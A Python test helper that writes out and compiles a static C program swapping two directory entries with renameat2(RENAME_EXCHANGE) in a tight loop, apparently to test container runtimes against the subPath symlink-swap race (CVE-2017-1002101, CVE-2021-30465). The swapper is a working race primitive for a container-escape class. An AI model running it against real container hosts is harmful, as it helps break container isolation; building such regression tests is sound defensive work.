"""The subPath swap-race attacker for the tests: a static C program that swaps the directory
entries `d` and `l` of the directory it is given with renameat2(RENAME_EXCHANGE) as fast as it
can (CVE-2017-1002101, CVE-2021-30465). It prints "ready" once looping; on SIGTERM it stops
after an even number of swaps, so `d` is the directory again, and prints how many it made.
Static, so that it also runs inside a busybox container."""
from __future__ import annotations

import os
import subprocess
import textwrap

SWAPPER_C = textwrap.dedent(r"""
    #define _GNU_SOURCE
    #include <fcntl.h>
    #include <signal.h>
    #include <stdio.h>
    #include <sys/syscall.h>
    #include <unistd.h>
    #ifndef RENAME_EXCHANGE
    #define RENAME_EXCHANGE (1 << 1)
    #endif
    static volatile sig_atomic_t stop;
    static void on_term(int sig) { (void)sig; stop = 1; }
    int main(int argc, char **argv) {
        if (argc != 2) return 2;
        int dir = open(argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (dir < 0) { perror("open"); return 1; }
        signal(SIGTERM, on_term);
        unsigned long swaps = 0;
        write(1, "ready\n", 6);
        /* stop only after an even number of swaps: d is the directory again */
        while (!stop || swaps % 2) {
            if (syscall(SYS_renameat2, dir, "d", dir, "l", RENAME_EXCHANGE) != 0) {
                perror("renameat2"); return 1;
            }
            swaps++;
        }
        printf("%lu\n", swaps);
        return 0;
    }
""")


def build_swapper(directory: str) -> str:
    """Compile it with gcc into directory; the executable's path."""
    src, exe = os.path.join(directory, "swapper.c"), os.path.join(directory, "swapper")
    with open(src, "w") as f:
        f.write(SWAPPER_C)
    subprocess.run(["gcc", "-O2", "-static", "-o", exe, src], check=True, capture_output=True)
    return exe
